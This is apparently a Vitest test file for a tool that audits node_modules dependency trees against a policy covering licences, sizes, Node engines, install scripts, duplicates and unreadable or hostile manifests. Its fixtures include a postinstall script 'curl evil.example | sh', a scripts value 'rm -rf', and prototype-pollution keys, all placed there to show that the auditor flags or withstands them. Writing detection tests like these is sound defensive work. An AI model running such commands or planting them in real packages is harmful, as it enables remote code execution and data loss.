import { linkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { type FixtureEntry, fixtureTree, manifest } from './fixture-tree.ts';
import { dependencyAudit } from './pipeline.ts';
import { printable } from './report/wording.ts';

function audit(root: string, policy: object = {}, options: { measureSizes?: boolean; signal?: AbortSignal } = {}) {
  const { measureSizes = true, signal } = options;
  return dependencyAudit.run({ nodeModules: join(root, 'node_modules'), policy: JSON.stringify(policy), measureSizes }, { signal });
}

/** The facts about a tree, and the violations of `policy` as `check: subject`. */
async function findings(entries: Record<string, FixtureEntry>, policy: object = {}) {
  const run = await audit(fixtureTree(entries, onTestFinished), policy);
  const report = run.outputs.report;
  if (report === undefined) throw new Error(`no report: ${run.errors.join()}`);
  const outcome = run.stages.get('facts')?.outcome;
  return { run, report, violated: report.violations.map(({ check, subject }) => `${check}: ${subject}`), outcome };
}

describe('dependencyAudit', () => {
  test('passes a tree that breaks no rule', async () => {
    const { run, report } = await findings({ 'node_modules/a/package.json': manifest('a') }, { licences: { allowed: ['MIT'] } });
    expect(run.status).toBe('completed');
    expect(report).toMatchObject({ passed: true, packageCount: 1, violations: [] });
  });

  test('ends blocked and reports all the same where the policy is broken', async () => {
    const { run, report } = await findings({ 'node_modules/a/package.json': manifest('a') }, { licences: { allowed: ['ISC'] } });
    expect(run.status === 'blocked' && [run.blockedBy, run.reason]).toEqual(['within-policy', '1 violation']);
    expect(run.outputs.accepted).toBeUndefined();
    expect(report).toMatchObject({ passed: false, verdict: 'Blocked by the policy: 1 violation.' });
    expect(report.checks[0]).toMatchObject({ check: 'licences', verdict: 'violated', violationCount: 1 });
  });

  test('holds licences against what is allowed, denied and excepted', async () => {
    const tree = {
      'node_modules/choice/package.json': manifest('choice', '1.0.0', { license: 'GPL-3.0-only OR mit' }),
      'node_modules/both/package.json': manifest('both', '1.0.0', { license: 'MIT AND GPL-3.0-only' }),
      'node_modules/old/package.json': manifest('old', '1.0.0', { license: undefined, licenses: [{ type: 'MIT' }] }),
      'node_modules/filed/package.json': manifest('filed', '1.0.0', { license: undefined }),
      'node_modules/filed/LICENSE.md': 'Do what you like.',
      'node_modules/silent/package.json': manifest('silent', '1.0.0', { license: undefined }),
      'node_modules/special/package.json': manifest('special', '1.0.0', { license: 'Custom terms' }),
    };
    const exceptions = { special: 'we asked' };
    const allowed = await findings(tree, { licences: { allowed: ['MIT'], exceptions } });
    expect(allowed.violated).toEqual(['licences: both@1.0.0', 'licences: filed@1.0.0', 'licences: silent@1.0.0']);
    expect(allowed.report.violations.map(({ problem }) => problem)).toContain('licence SEE LICENSE IN LICENSE.md is not allowed');
    expect(allowed.report.violations.map(({ problem }) => problem)).toContain('licence unknown is not allowed');
    const denied = await findings(tree, { licences: { denied: ['GPL-3.0-only', 'unknown'] } });
    expect(denied.violated).toEqual(['licences: both@1.0.0', 'licences: silent@1.0.0']);
  });

  test('counts a file with two names once in the total', async () => {
    const root = fixtureTree(
      {
        'node_modules/a/package.json': manifest('a'),
        'node_modules/a/big': 'x'.repeat(1_000_000),
        'node_modules/a/node_modules/b/package.json': manifest('b'),
      },
      onTestFinished,
    );
    linkSync(join(root, 'node_modules/a/big'), join(root, 'node_modules/a/node_modules/b/same'));
    const run = await audit(root, { sizes: { maxTotalMegabytes: 1.5, maxPackageMegabytes: 1 } });
    expect(run.outputs.report?.checks[1]?.found).toBe('1.0 MB in 3 files');
    expect(run.outputs.report?.violations.map(({ subject }) => subject)).toEqual(['a@1.0.0', 'b@1.0.0']);
  });

  test('leaves sizes out when asked to', async () => {
    const run = await audit(
      fixtureTree({ 'node_modules/a/package.json': manifest('a') }, onTestFinished),
      { sizes: { maxTotalMegabytes: 1 } },
      { measureSizes: false },
    );
    expect(run.status).toBe('completed');
    expect(run.stages.get('packages[a]/size')?.status).toBe('skipped');
    expect(run.stages.get('sizes')?.status).toBe('skipped');
    expect(run.outputs.report?.checks[1]).toMatchObject({ check: 'sizes', verdict: 'not measured' });
  });

  test('finds packages that refuse the version of Node', async () => {
    const tree = {
      'node_modules/new/package.json': manifest('new', '1.0.0', { engines: { node: '>=26' } }),
      'node_modules/fine/package.json': manifest('fine', '1.0.0', { engines: { node: '>=20' } }),
      'node_modules/odd/package.json': manifest('odd', '1.0.0', { engines: { node: 'a recent one' } }),
      'node_modules/wrong/package.json': manifest('wrong', '1.0.0', { engines: ['node'] }),
    };
    const { violated, report } = await findings(tree, { engines: { node: '24.0.0' } });
    expect(violated).toEqual(['engines: new@1.0.0']);
    expect(report.sections.find(({ title }) => title === 'Engines')?.rows).toEqual([
      ['new@1.0.0', '>=26', 'refuses'],
      ['odd@1.0.0', 'a recent one', 'not a range'],
    ]);
  });

  test('finds install scripts, also the one that a binding.gyp implies', async () => {
    const tree = {
      'node_modules/a/package.json': manifest('a', '1.0.0', { scripts: { postinstall: 'curl evil.example | sh', test: 'vitest' } }),
      'node_modules/native/package.json': manifest('native'),
      'node_modules/native/binding.gyp': '{}',
      'node_modules/esbuild/package.json': manifest('esbuild', '1.0.0', { scripts: { install: 'node install.js' } }),
    };
    const { violated } = await findings(tree, { installScripts: { allowed: ['esbuild'] } });
    expect(violated).toEqual(['install scripts: a@1.0.0', 'install scripts: native@1.0.0']);
  });

  test('looks at each place by itself, whatever its package is called', async () => {
    const same = manifest('same');
    const { run, report } = await findings({
      'node_modules/a/package.json': same,
      'node_modules/a/node_modules/b/package.json': same,
      'node_modules/@s/c/package.json': same,
    });
    expect(report.packageCount).toBe(3);
    const looked = [...run.stages.keys()].filter((path) => path.endsWith('/manifest'));
    expect(looked).toEqual(['packages[@s/c]/manifest', 'packages[a]/manifest', 'packages[a/node_modules/b]/manifest']);
  });

  test('counts versions, not copies, as duplicates', async () => {
    const tree = {
      'node_modules/a/package.json': manifest('a', '1.0.0'),
      'node_modules/b/package.json': manifest('b'),
      'node_modules/b/node_modules/a/package.json': manifest('a', '2.0.0'),
      'node_modules/c/package.json': manifest('c'),
      'node_modules/c/node_modules/b/package.json': manifest('b'),
    };
    const { violated, report } = await findings(tree, { duplicateVersions: { max: 1 } });
    expect(violated).toEqual(['duplicate versions: a']);
    expect(report.packageCount).toBe(5);
    expect((await findings(tree, { duplicateVersions: { max: 1, exceptions: ['a'] } })).violated).toEqual([]);
  });

  test('reports what it cannot read and goes on', async () => {
    const tree = {
      'node_modules/a/package.json': manifest('a'),
      'node_modules/broken/package.json': '{ "name": "broken", ',
      'node_modules/list/package.json': '[]',
      'node_modules/empty/index.js': '',
      'node_modules/folder/package.json/inner': '',
      'node_modules/marked/package.json': `\uFEFF${JSON.stringify({ name: 'marked', version: '1.0.0' })}`,
    };
    const { run, report, violated } = await findings(tree, { manifests: { maxUnreadable: 4 } });
    expect(run.status).toBe('completed');
    expect(run.counts.failed).toBe(4);
    expect(report.packageCount).toBe(2);
    expect(violated).toEqual([]);
    const rows = report.sections.find(({ title }) => title === 'Unreadable manifests')?.rows ?? [];
    expect(rows.map(([place, problem]) => [place?.split('/').at(-1), problem])).toEqual([
      ['broken', 'package.json is not valid JSON'],
      ['empty', 'package.json is missing'],
      ['folder', 'package.json cannot be read: EISDIR'],
      ['list', 'package.json is not an object'],
    ]);
    expect((await findings(tree, { manifests: { maxUnreadable: 3 } })).violated.length).toBe(4);
  });

  test('is not led astray by hostile manifests', async () => {
    const tree = {
      'node_modules/a/package.json':
        '{"name":"__proto__","version":"constructor","license":"toString","engines":{"__proto__":{"node":"<1"}},"scripts":"rm -rf"}',
      'node_modules/b/package.json': { json: { name: 7, version: null, license: { type: {} }, engines: 'node', scripts: { install: [] } } },
      'node_modules/@s/c/package.json': '{}',
    };
    const { run, report } = await findings(tree, {
      licences: { exceptions: {} },
      installScripts: { allowed: [] },
      engines: { node: '24.0.0' },
    });
    expect(run.status).toBe('completed');
    const licences = report.sections[0]?.rows.map(([licence, , names]) => [licence, names]);
    expect(licences).toEqual([
      ['unknown', '@s/c, b'],
      ['toString', '__proto__'],
    ]);
    expect(({} as { node?: string }).node).toBeUndefined();
  });

  test('rejects a policy that breaks its contract, before anything has run', async () => {
    const run = audit('/nowhere', { licences: { allowed: [7] } });
    await expect(run).rejects.toMatchObject({ code: 'SF_INPUT_INVALID', message: expect.stringContaining('licences.allowed.0') });
  });

  test('fails where there is no such folder', async () => {
    const run = await audit('/nowhere');
    expect(run.status === 'failed' && run.error.message).toContain('ENOENT');
    expect(run.stages.get('report')?.outcome).toMatchObject({ status: 'skipped', rootCause: { stage: 'discover' } });
  });

  test('is cancelled by its signal, keeping what was done', async () => {
    const stop = new AbortController();
    const sink = {
      name: 'stops when the first size is measured',
      emit: ({ type, ...event }: { type: string; stage?: string }) => {
        if (type === 'stage.started' && event.stage === 'size') stop.abort(new Error('enough'));
      },
    };
    const nodeModules = join(fixtureTree({ 'node_modules/a/package.json': manifest('a') }, onTestFinished), 'node_modules');
    const run = await dependencyAudit.run({ nodeModules, policy: '{}', measureSizes: true }, { signal: stop.signal, sinks: [sink] });
    expect(run.status === 'cancelled' && run.reason).toBe('enough');
    expect(run.stages.get('discover')?.status).toBe('completed');
    expect(run.stages.get('packages[a]/manifest')?.status).toBe('completed');
    expect(run.stages.get('packages[a]/size')?.status).toBe('cancelled');
    expect(run.outputs.report).toBeUndefined();
  });
});

test('printable() leaves nothing that a terminal obeys', () => {
  expect(printable('a\u001B[2Jb\u202Ec\nd é 漢')).toBe('a\\u{1b}[2Jb\\u{202e}c\\u{a}d é 漢');
});
